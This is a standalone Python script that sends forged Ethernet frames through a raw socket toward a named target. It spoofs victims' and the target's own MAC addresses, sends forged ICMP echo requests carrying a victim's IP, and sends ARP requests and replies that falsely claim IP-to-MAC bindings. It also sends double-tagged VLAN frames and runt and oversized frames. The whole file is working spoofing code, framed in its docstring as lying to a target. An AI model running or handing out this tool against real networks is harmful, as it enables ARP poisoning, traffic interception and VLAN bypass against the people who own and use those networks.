#!/usr/bin/env python3
"""Sends forged Ethernet frames from an interface: with the MACs and addresses of others, broadcast, tagged, as ARP, runt and oversized.

Usage: forge_frames.py INTERFACE TARGET_MAC TARGET_IP VICTIM_MAC... VICTIM_IP: everything goes to the target by every lie one can think of.
"""
import socket
import struct
import sys

BROADCAST = b"\xff" * 6


def mac(text):
    return bytes(int(part, 16) for part in text.split(":"))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def echo_request(source, target):
    icmp = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"forged frame"
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 1, 0, 64, 1, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + icmp


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender_mac, socket.inet_aton(sender_ip), target_mac, socket.inet_aton(target_ip))


def frames(target_mac, target_ip, victims, victim_ip):
    """Every pair of a source (own, victims', the target's own, zero, multicast) and a destination."""
    sources = victims + [target_mac, bytes(6), BROADCAST, mac("02:00:00:00:00:01")]
    for source in sources:
        for destination in [target_mac, BROADCAST, mac("01:00:5e:00:00:09")]:
            head = destination + source
            packet = echo_request(victim_ip, target_ip)
            yield head + b"\x08\x00" + packet
            yield head + b"\x81\x00\x00\x07\x08\x00" + packet
            yield head + b"\x88\xa8\x00\x07\x81\x00\x00\x07\x08\x00" + packet
            yield head + b"\x08\x06" + arp(1, source, victim_ip, bytes(6), target_ip)
            yield head + b"\x08\x06" + arp(2, source, target_ip, target_mac, victim_ip)
            yield head + b"\x86\xdd" + bytes(40)
            yield head + b"\x08\x00" + packet[:10]
            yield head + b"\x08\x00"
            yield (head + b"\x08\x00" + packet).ljust(1514, b"\0")


def main():
    interface, target_mac, target_ip, victim_ip = sys.argv[1], mac(sys.argv[2]), sys.argv[3], sys.argv[-1]
    victims = [mac(text) for text in sys.argv[4:-1]]
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    line.bind((interface, 0))
    sent = 0
    for _ in range(3):
        for frame in frames(target_mac, target_ip, victims, victim_ip):
            line.send(frame)
            sent += 1
    print(f"{sent} forged frames sent")


if __name__ == "__main__":
    main()
